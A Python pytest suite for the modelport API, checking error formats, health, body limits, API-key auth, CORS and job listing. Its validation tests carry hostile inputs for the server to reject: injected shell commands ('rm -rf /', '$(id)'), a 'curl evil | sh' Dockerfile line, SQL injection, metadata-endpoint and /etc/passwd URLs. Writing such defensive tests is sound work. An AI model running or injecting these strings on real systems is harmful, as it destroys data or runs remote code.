"""Request handling without a worker: errors in SPEC's format, auth, CORS, jobs listing."""

import json
import os
import subprocess
import sys

import pytest

from modelport.core import apikeys


def assert_spec_error(resp, status, code):
    assert resp.status_code == status, resp.get_data(as_text=True)
    body = resp.get_json()
    assert set(body) == {"error"}
    assert set(body["error"]) == {"code", "message", "details"}
    assert body["error"]["code"] == code
    assert isinstance(body["error"]["message"], str) and body["error"]["message"]
    assert "Traceback" not in resp.get_data(as_text=True)
    return body["error"]


def test_api_process_stays_light(platform_env):
    code = (
        "import sys; from modelport.api import create_app; create_app();"
        "heavy = [m for m in ('torch', 'transformers', 'modelport.tasks', 'modelport.workers',"
        " 'modelport.packaging.bundle', 'sentence_transformers', 'modelport.benchmarking.runner')"
        " if m in sys.modules];"
        "print(heavy)"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, env=os.environ
    )
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "[]"


def test_health_reports_database_redis_and_queues(client, worker):
    resp = client.get("/api/health")
    body = resp.get_json()
    assert resp.status_code == 200, body
    assert body["status"] == "ok" and body["unconsumedQueues"] == []
    assert body["database"]["ok"] and body["redis"]["ok"]
    assert set(body["queues"]) >= {"control", "default", "cpu", "gpu"}
    assert min(body["queues"][q] for q in ("control", "default", "cpu")) >= 1


def test_health_names_the_queues_no_worker_consumes():
    """Degraded when a needed queue has no worker (a submission would wait for nobody); the
    gpu queue is optional. The decision and its message, on what the broadcast returns."""
    from modelport.api.health import degraded_message, unconsumed

    workers = {"control": ["cpu@h"], "default": [], "cpu": ["cpu@h"], "gpu": []}
    assert unconsumed(workers) == ["default"]
    assert unconsumed({"control": ["a"], "default": ["a"], "cpu": ["b"], "gpu": []}) == []
    assert unconsumed({}) == ["control", "default", "cpu"]
    assert degraded_message([], ["default"]) == (
        "no worker consumes the default queue (start the workers: `modelport dev`, or the "
        "Procfile's worker lines); retry shortly"
    )
    assert degraded_message(["redis"], []) == "redis unavailable; retry shortly"


def test_unknown_route_and_method(client):
    assert_spec_error(client.get("/api/nope"), 404, 1008)
    assert_spec_error(client.get("/api/generate"), 405, 1006)


@pytest.mark.parametrize(
    ("body", "content_type", "code"),
    [
        ("{not json", "application/json", 1006),
        ("[1, 2]", "application/json", 1006),
        ("modelUrl=x", "application/x-www-form-urlencoded", 1006),
        ("{}", "application/json", 1003),
        ('{"modelUrl": 5}', "application/json", 1003),
        ('{"modelUrl": "a/b", "extra": 1}', "application/json", 1003),
        ("[" * 5000 + "]" * 5000, "application/json", 1006),
        ('{"a":' * 50 + "1" + "}" * 50, "application/json", 1006),
    ],
)
def test_malformed_bodies(client, body, content_type, code):
    resp = client.post("/api/generate", data=body, content_type=content_type)
    assert_spec_error(resp, 400, code)


def test_oversize_body_is_413(client):
    resp = client.post("/api/generate", data="x" * 2_000_000, content_type="application/json")
    assert_spec_error(resp, 413, 1006)


def test_a_chunked_body_over_the_limit_is_refused_not_truncated(client, app):
    """No Content-Length (chunked): the server terminates the stream (gunicorn sets
    wsgi.input_terminated) and werkzeug stops reading at the limit. A valid object padded past
    the limit used to be parsed from its first MiB and accepted."""
    import io

    limit = app.config["MAX_CONTENT_LENGTH"]
    head = b'{"modelUrl": "org/model", "options": {"batchSize": 4}}'

    def chunked(size: int):
        body = head + b" " * (size - len(head))
        return client.post(
            "/api/generate", input_stream=io.BytesIO(body), content_type="application/json",
            headers={"Transfer-Encoding": "chunked"},
            environ_overrides={"wsgi.input_terminated": True},
        )  # fmt: skip

    assert_spec_error(chunked(limit + 4096), 413, 1006)
    assert chunked(limit // 2).status_code == 202  # the same body under the limit is a job


def test_a_bad_wait_is_refused_before_anything_is_written(client):
    from sqlalchemy import func, select

    from modelport.core.db import session_scope
    from modelport.core.models import Job

    def jobs() -> int:
        with session_scope() as session:
            return session.scalar(select(func.count()).select_from(Job))

    before = jobs()
    for wait in ("soon", "-1", "inf", "nan"):
        resp = client.post(f"/api/generate?wait={wait}", json={"modelUrl": "org/model"})
        assert_spec_error(resp, 400, 1006)
    assert jobs() == before


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example.com/org/model",
        "https://huggingface.co@evil.example.com/org/model",
        "https://user:pw@huggingface.co/org/model",
        "http://169.254.169.254/latest/meta-data",
        "file:///etc/passwd",
        "org/model; rm -rf /",
        "org/$(id)",
        "org/`reboot`",
        "../../etc/passwd",
        "org/model\nFROM scratch",
        "https://huggingface.co/datasets/org/data",
        "https://huggingface.co/org/model?x=1",
        "a" * 5000,
        "org/mödel",
        "",
        "hf://org/model@",
        "https://huggingface.co/org/model/tree/main;id",
    ],
)
def test_hostile_model_urls_are_invalid_model(client, url):
    err = assert_spec_error(client.post("/api/generate", json={"modelUrl": url}), 400, 1001)
    assert "Accepted forms" in err["message"]


@pytest.mark.parametrize(
    ("options", "field"),
    [
        ({"batchSize": 0}, "options.batchSize"),
        ({"batchSize": 1025}, "options.batchSize"),
        ({"batchSize": "8"}, "options.batchSize"),
        ({"batchSize": 2.5}, "options.batchSize"),
        ({"memory": "8 gigs"}, "options.memory"),
        ({"memory": "-1Gi"}, "options.memory"),
        ({"gpu": "yes"}, "options.gpu"),
        ({"optimizationLevel": "O9"}, "options.optimizationLevel"),
        ({"optimizationLevel": "'; DROP TABLE jobs; --"}, "options.optimizationLevel"),
        ({"gpu": True, "optimizationLevel": "onnxruntime"}, "options.optimizationLevel"),
        ({"gpu": True, "optimizationLevel": "openvino"}, "options.optimizationLevel"),
        ({"dockerfile": "RUN curl evil | sh"}, "options.dockerfile"),
        ({"maxBatchDelayMs": -1}, "options.maxBatchDelayMs"),
        ({"maxBatchDelayMs": 1001}, "options.maxBatchDelayMs"),
        ({"maxBatchDelayMs": "5"}, "options.maxBatchDelayMs"),
        ({"maxBatchDelayMs": 2.5}, "options.maxBatchDelayMs"),
    ],
)
def test_bad_options_name_the_field(client, options, field):
    resp = client.post("/api/generate", json={"modelUrl": "org/model", "options": options})
    err = assert_spec_error(resp, 400, 1003)
    assert err["details"]["fields"][0]["field"] == field


def test_memory_above_max_memory_and_gpu_when_disabled(client, app, monkeypatch):
    err = assert_spec_error(
        client.post("/api/generate", json={"modelUrl": "org/m", "options": {"memory": "64Gi"}}),
        400,
        1003,
    )
    assert "MAX_MEMORY" in err["message"]
    app.config["MODELPORT"] = app.config["MODELPORT"].model_copy(update={"ENABLE_GPU": False})
    err = assert_spec_error(
        client.post("/api/generate", json={"modelUrl": "org/m", "options": {"gpu": True}}),
        400,
        1003,
    )
    assert "ENABLE_GPU" in err["message"]


def test_unknown_job_is_404_and_list_params_are_checked(client):
    assert_spec_error(client.get("/api/jobs/does-not-exist"), 404, 1008)
    assert_spec_error(client.get("/api/jobs/" + "x" * 500), 404, 1008)
    assert_spec_error(client.delete("/api/jobs/does-not-exist"), 404, 1008)
    assert_spec_error(client.get("/api/jobs?status=exploded"), 400, 1006)
    assert_spec_error(client.get("/api/jobs?perPage=1000"), 400, 1006)
    assert_spec_error(client.get("/api/jobs?page=x"), 400, 1006)
    assert_spec_error(client.get("/api/jobs/x?wait=soon"), 404, 1008)


@pytest.fixture()
def secured(platform_env, monkeypatch):
    from tests.fixtures.services import reset_process_state

    monkeypatch.setenv("REQUIRE_API_KEY", "true")
    reset_process_state()
    from modelport.api import create_app

    yield create_app().test_client()
    monkeypatch.delenv("REQUIRE_API_KEY")
    reset_process_state()


def test_api_keys_are_required_when_asked(secured):
    assert secured.get("/api/health").status_code in (200, 503)  # health stays open (no 401)
    assert_spec_error(secured.get("/api/jobs"), 401, 1007)
    assert_spec_error(secured.get("/api/jobs", headers={"Authorization": "Bearer nope"}), 401, 1007)
    assert_spec_error(
        secured.get("/api/jobs", headers={"Authorization": "Bearer mp_abc_def"}), 401, 1007
    )
    new = apikeys.create_key("ci")
    auth = {"Authorization": f"Bearer {new.key}"}
    assert secured.get("/api/jobs", headers=auth).status_code == 200
    # a near miss (same prefix, other secret) is refused
    forged = new.key[:-2] + ("aa" if not new.key.endswith("aa") else "bb")
    assert_spec_error(
        secured.get("/api/jobs", headers={"Authorization": f"Bearer {forged}"}), 401, 1007
    )
    assert apikeys.revoke_key(new.id)
    assert_spec_error(secured.get("/api/jobs", headers=auth), 401, 1007)


def test_api_key_command(platform_env):
    run = [sys.executable, "-m", "modelport.cli", "api-key"]
    created = subprocess.run([*run, "create", "robot"], capture_output=True, text=True)
    assert created.returncode == 0, created.stderr
    key_id = int(created.stdout.split()[0].removeprefix("id="))
    key = created.stdout.splitlines()[1]
    assert apikeys.verify(key) == key_id
    listed = subprocess.run([*run, "list"], capture_output=True, text=True).stdout
    assert "robot" in listed and key not in listed
    assert subprocess.run([*run, "revoke", str(key_id)], capture_output=True).returncode == 0
    assert apikeys.verify(key) is None
    assert subprocess.run([*run, "revoke", str(key_id)], capture_output=True).returncode == 1


def test_cors_allows_exactly_allowed_origins(client):
    ok = client.options(
        "/api/generate",
        headers={"Origin": "https://dash.example.com", "Access-Control-Request-Method": "POST"},
    )
    assert ok.headers.get("Access-Control-Allow-Origin") == "https://dash.example.com"
    bad = client.get("/api/health", headers={"Origin": "https://evil.example.com"})
    assert "Access-Control-Allow-Origin" not in bad.headers
    near = client.get("/api/health", headers={"Origin": "https://dash.example.com.evil.io"})
    assert "Access-Control-Allow-Origin" not in near.headers


def test_jobs_listing_filters_and_paginates(client):
    from modelport.core import jobs as core_jobs
    from modelport.core.db import session_scope

    ids = []
    with session_scope() as session:
        for i in range(5):
            job = core_jobs.new_job(
                session,
                kind="generate",
                task_name="generate.run",
                queue="default",
                params={},
                model_id=f"listing/model-{i % 2}",
            )
            ids.append(job.id)
    page = client.get("/api/jobs?modelId=listing/model-0&perPage=2").get_json()
    assert page["total"] == 3 and len(page["jobs"]) == 2 and page["perPage"] == 2
    second = client.get("/api/jobs?modelId=listing/model-0&perPage=2&page=2").get_json()
    assert len(second["jobs"]) == 1
    seen = {j["jobId"] for j in page["jobs"] + second["jobs"]}
    assert seen == {ids[0], ids[2], ids[4]}
    queued = client.get("/api/jobs?status=queued&kind=generate&perPage=100").get_json()
    assert {j["status"] for j in queued["jobs"]} == {"queued"}
    cancelled = client.delete(f"/api/jobs/{ids[1]}")
    assert cancelled.status_code == 200 and cancelled.get_json()["status"] == "cancelled"
    assert json.loads(client.delete(f"/api/jobs/{ids[1]}").data)["error"]["code"] == 1011
